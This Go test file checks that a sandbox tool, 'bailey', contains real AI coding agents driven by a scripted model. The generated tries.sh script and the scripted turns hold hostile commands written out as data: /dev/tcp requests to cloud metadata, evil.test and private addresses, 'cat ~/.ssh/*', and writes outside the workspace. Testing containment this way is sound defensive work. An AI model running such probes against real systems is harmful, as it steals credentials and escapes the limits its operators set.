package spec_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/bailey-dev/bailey/internal/testkit/agents"
	"github.com/bailey-dev/bailey/internal/testkit/netlab"
	"github.com/bailey-dev/bailey/internal/testkit/provider"
	"github.com/bailey-dev/bailey/internal/testkit/yard"
)

const (
	agentKey    = "sk-canary-key-0123456789-abcdefghijklmnop"
	sshCanary   = "canary-private-ssh-key"
	agentPrompt = "do the work"
)

// realAgents are the agents as a person would start them.
var realAgents = []struct {
	name, key, api string
	args           []string // without a terminal
	terminal       []string // in one
}{
	{
		"claude", "ANTHROPIC_API_KEY", "api.anthropic.com",
		[]string{"-p", agentPrompt},
		[]string{agentPrompt},
	},
	{
		"codex", "OPENAI_API_KEY", "api.openai.com",
		[]string{"exec", "--skip-git-repo-check", agentPrompt},
		[]string{agentPrompt},
	},
	{
		"opencode", "ANTHROPIC_API_KEY", "api.anthropic.com",
		[]string{"run", "-m", "anthropic/claude-opus-5-5", agentPrompt},
		[]string{"-m", "anthropic/claude-opus-5-5", "--prompt", agentPrompt},
	},
}

// TestAgents_WorkAndCannotGetOut runs the real agents from npm in a sandbox,
// each by its name alone and against a scripted model: the work gets done, and
// whatever the model makes the agent try beyond the workspace fails. The same
// tries succeed outside of a sandbox.
func TestAgents_WorkAndCannotGetOut(t *testing.T) {
	t.Parallel()
	for i, a := range realAgents {
		t.Run(a.name, func(t *testing.T) {
			yard.InTurn(t, i, func(t *testing.T, y *yard.Yard) {
				l := newAgentLab(t, y)
				l.twin(t)
				l.model = provider.New(agentKey, l.script()...)
				l.lab.Handle(a.api, l.model)
				out := l.run(t, a.name, a.key, a.args)
				l.checkWork(t, out)
				l.checkTries(t)
				l.checkNetwork(t, a.api)
				if t.Failed() {
					t.Logf("output:\n%s", out)
				}
			})
		})
	}
}

// TestAgents_StartInATerminal starts each agent in a sandbox as a person does,
// in a terminal: no question stands before the work, bailey prints nothing
// into its screen, and closing the terminal ends it all.
func TestAgents_StartInATerminal(t *testing.T) {
	t.Parallel()
	for _, a := range realAgents {
		t.Run(a.name, func(t *testing.T) {
			l := newAgentLab(t, yard.Unprivileged(t))
			l.model = provider.New(agentKey, // what it may do is the same as without a terminal
				provider.Do(provider.Write(filepath.Join(l.yard.Dir, "new.txt"), "made\n")),
				provider.Do(provider.Shell("echo $((6*7)) > shell.txt")),
				provider.Say("all done"))
			l.lab.Handle(a.api, l.model)
			ctx, cancel := context.WithTimeout(t.Context(), agentTime)
			defer cancel()
			cmd := l.command(ctx, a.name, a.key, a.terminal)
			cmd.SysProcAttr.Setpgid = false // the terminal makes it a session of its own
			master, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 40, Cols: 120, X: 0, Y: 0})
			if err != nil {
				t.Fatal(err)
			}
			screen := new(screen)
			gone := make(chan struct{})
			go func() {
				defer close(gone)
				_, _ = io.Copy(screen, master)
			}()
			yard.Eventually(t, agentTime, func() bool { return l.model.Finished() || ended(gone) }, screen.String)
			for name, want := range map[string]string{"new.txt": "made\n", "shell.txt": "42\n"} {
				if b, err := os.ReadFile(filepath.Join(l.yard.Dir, name)); err != nil || string(b) != want {
					t.Errorf("%s: %q %v, want %q", name, b, err, want)
				}
			}
			shown := screen.String()
			if i := strings.Index(shown, "\x1b["); i >= 0 && strings.Contains(shown[i:], "bailey: ") {
				t.Errorf("bailey wrote into the agent's screen")
			}
			hungUp := time.Now()
			// A hang-up, as when a window is closed. Close alone would wait for
			// the read that is under way.
			if err := cmd.Process.Signal(syscall.SIGHUP); err != nil {
				t.Error(err)
			}
			_ = cmd.Wait()
			_ = master.Close()
			if took := time.Since(hungUp); took > 15*time.Second {
				t.Errorf("it lived for %v after its terminal was gone", took)
			}
			if t.Failed() {
				t.Logf("screen:\n%s", shown)
			}
		})
	}
}

func ended(done <-chan struct{}) bool {
	select {
	case <-done:
		return true
	default:
		return false
	}
}

// screen keeps what a terminal was sent.
type screen struct {
	mu sync.Mutex
	b  bytes.Buffer
}

// Write appends.
func (s *screen) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

// String returns everything so far.
func (s *screen) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// agentLab is a host with something to steal, and a network to carry it off.
type agentLab struct {
	yard    *yard.Yard
	lab     *netlab.Lab
	model   *provider.Server
	bin     string
	ssh     string // a private key of the caller
	outside string // a folder beside the workspace that everybody may write to
}

func newAgentLab(t *testing.T, y *yard.Yard) *agentLab {
	t.Helper()
	l := &agentLab{yard: y, lab: netlab.New(t), bin: agents.Bin(t)}
	y.Wrap = l.lab.Enter
	l.ssh = y.WriteHome(t, ".ssh/id_ed25519", sshCanary+"\n")
	y.Write(t, "hello.txt", "one\ntwo\nthree\n")
	ca, err := os.ReadFile(l.lab.CAFile())
	if err != nil {
		t.Fatal(err)
	}
	y.Write(t, "ca.pem", string(ca))
	l.outside = filepath.Join(filepath.Dir(y.Dir), "outside")
	if err := os.Mkdir(l.outside, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(l.outside, 0o777); err != nil {
		t.Fatal(err)
	}
	y.Write(t, "tries.sh", l.tries())
	return l
}

// tries is a shell script that tries everything at once and says what it got.
// It needs nothing but bash.
func (l *agentLab) tries() string {
	var b strings.Builder
	for _, to := range []string{
		"169.254.169.254 80", "metadata.google.internal 80",
		"evil.test 80", "11.0.0.66 80", "2600:11::66 80", "private.test 8080", "10.11.12.13 8080",
		"127.0.0.1 8080", "::1 8080", "loop.test 8080", "11.0.0.1 8080",
	} {
		host, port, _ := strings.Cut(to, " ")
		fmt.Fprintf(&b, "timeout 8 bash -c 'exec 3<>/dev/tcp/%s/%s; printf \"GET / HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n\" >&3; cat <&3' 2>&1 &\n", host, port, host)
	}
	fmt.Fprintf(&b, "cat ~/.ssh/* %s 2>&1\n", l.ssh)
	fmt.Fprintf(&b, "echo caught > %s/by-shell 2>&1\n", l.outside)
	b.WriteString("wait\necho tries are over\n")
	return b.String()
}

// loot is what the tries get where nothing stops them.
func (l *agentLab) loot() []string {
	return []string{
		sshCanary, netlab.MetadataCanary, netlab.LoopbackCanary, netlab.PrivateCanary,
		"hello from evil.test at 11.0.0.66", "hello from 11.0.0.66 at 11.0.0.66", "hello from 2600:11::66 at 2600:11::66",
	}
}

// twin runs the tries in a like network without bailey: they all succeed.
func (l *agentLab) twin(t *testing.T) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "/bin/bash", "tries.sh")
	cmd.Dir = l.yard.Dir
	cmd.Env = []string{"HOME=" + l.yard.Home, "PATH=/usr/bin:/bin"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(l.yard.UID), Gid: uint32(l.yard.GID)}}
	netlab.New(t).Enter(cmd)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("twin: %v\n%s", err, out)
	}
	for _, want := range l.loot() {
		if !strings.Contains(string(out), want) {
			t.Errorf("without a sandbox the tries get no %q:\n%s", want, out)
		}
	}
	if err := os.Remove(filepath.Join(l.outside, "by-shell")); err != nil {
		t.Errorf("without a sandbox the tries leave nothing outside: %v", err)
	}
}

func (l *agentLab) script() []provider.Turn {
	hello := filepath.Join(l.yard.Dir, "hello.txt")
	return []provider.Turn{
		provider.Do(provider.Read(hello)),
		provider.Do(provider.Edit(hello, "two", "TWO")),
		provider.Do(provider.Write(filepath.Join(l.yard.Dir, "new.txt"), "made\n")),
		provider.Do(provider.Shell("echo $((6*7)) > shell.txt; cat hello.txt")),
		// By the agent's own tools, which are not the shell's.
		provider.Do(provider.Read(l.ssh)),
		provider.Do(provider.Write(filepath.Join(l.outside, "by-tool"), "caught\n")),
		provider.Do(provider.Shell("bash tries.sh")),
		provider.Say("all done"),
	}
}

const triesTurn = 6 // of the script

// agentTime bounds one run. An agent is done in seconds on a quiet machine; a
// busy one is given time.
const agentTime = 8 * time.Minute

// command prepares `bailey run … AGENT ARGS` with the agents in PATH.
func (l *agentLab) command(ctx context.Context, agent, key string, args []string) *exec.Cmd {
	ca := filepath.Join(l.yard.Dir, "ca.pem")
	argv := append([]string{
		// A busy machine stretches the moments in which opencode's screen takes
		// gigabytes.
		"run", "--memory", "12G", "--env", key, "--env", "NODE_EXTRA_CA_CERTS=" + ca, "--env", "SSL_CERT_FILE=" + ca, agent,
	}, args...)
	cmd := l.yard.Command(ctx, argv...)
	for i, kv := range cmd.Env {
		if path, ok := strings.CutPrefix(kv, "PATH="); ok {
			cmd.Env[i] = "PATH=" + l.bin + ":" + path
		}
	}
	cmd.Env = append(cmd.Env, key+"="+agentKey)
	return cmd
}

func (l *agentLab) run(t *testing.T, agent, key string, args []string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), agentTime)
	defer cancel()
	cmd := l.command(ctx, agent, key, args)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Run(); err != nil {
		t.Errorf("bailey run %s: %v", agent, err)
	}
	return out.String()
}

// checkWork holds that the tree is as scripted and belongs to the caller.
func (l *agentLab) checkWork(t *testing.T, out string) {
	t.Helper()
	for _, p := range l.model.Problems() {
		t.Errorf("provider: %s", p)
	}
	if !l.model.Finished() {
		t.Errorf("the script did not come to its end: %d results", len(l.model.Results()))
	}
	if !strings.Contains(out, "all done") {
		t.Error("the model's last words were not printed")
	}
	for name, want := range map[string]string{"hello.txt": "one\nTWO\nthree\n", "new.txt": "made\n", "shell.txt": "42\n"} {
		path := filepath.Join(l.yard.Dir, name)
		b, err := os.ReadFile(path)
		if err != nil || string(b) != want {
			t.Errorf("%s: %q %v, want %q", name, b, err, want)
			continue
		}
		info, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		if st, ok := info.Sys().(*syscall.Stat_t); !ok || int(st.Uid) != l.yard.UID || int(st.Gid) != l.yard.GID {
			t.Errorf("%s belongs to %+v", name, info.Sys())
		}
	}
}

// checkTries holds that no result carries loot, and that the host is as it was.
func (l *agentLab) checkTries(t *testing.T) {
	t.Helper()
	over := false
	for _, r := range l.model.Results() {
		for _, loot := range l.loot() {
			if strings.Contains(r.Output, loot) {
				t.Errorf("turn %d got %q:\n%s", r.Turn, loot, r.Output)
			}
		}
		over = over || r.Turn == triesTurn && strings.Contains(r.Output, "tries are over")
	}
	if !over {
		t.Error("the tries were not made to their end")
	}
	left, err := os.ReadDir(l.outside)
	if err != nil || len(left) != 0 {
		t.Errorf("left outside of the workspace: %v %v", left, err)
	}
	if b, err := os.ReadFile(l.ssh); err != nil || string(b) != sshCanary+"\n" {
		t.Errorf("the key was touched: %q %v", b, err)
	}
}

// checkNetwork holds that nothing left the machine but questions for the API's
// name and connections to it.
func (l *agentLab) checkNetwork(t *testing.T, api string) {
	t.Helper()
	reached := false
	for _, c := range l.lab.Connections() {
		switch {
		case c.To.Addr() == netlab.Resolver && c.To.Port() == 53:
		case c.To.Addr() == netlab.Allowed && c.To.Port() == 443 && c.Proto == "tcp":
			reached = true
		default:
			t.Errorf("%s to %s left the sandbox", c.Proto, c.To)
		}
	}
	if !reached {
		t.Error("nothing went to the API")
	}
	for _, q := range l.lab.Questions() {
		if q.Name != api+"." {
			t.Errorf("the question %s %s left the sandbox", q.Type, q.Name)
		}
	}
}
